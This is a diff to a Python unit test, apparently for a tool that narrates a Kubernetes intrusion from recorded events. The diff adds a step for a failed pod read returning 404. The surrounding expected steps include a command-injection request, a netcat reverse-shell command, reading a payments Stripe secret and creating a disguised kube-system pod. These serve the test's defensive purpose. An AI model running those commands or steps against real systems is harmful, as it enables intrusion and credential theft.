@@ -173,6 +173,7 @@ class Inventory(unittest.TestCase):
         story = self.documents["story"]
         told = "\n".join(f["sentence"] for p in story["phases"] for f in p["facts"])
         for step in ("GET /report?name=x;id", "nc 127.0.0.1:4444 -e sh",
+                     "tried to read pod payments/pay-0, which failed with status 404",
                      "asked which rights it has", "listed secrets of all namespaces",
                      "read secret payments/stripe", "tried to create cluster role binding, and was refused",
                      "changed cluster role inventory-reader", "created pod kube-system/kube-proxy-gw",
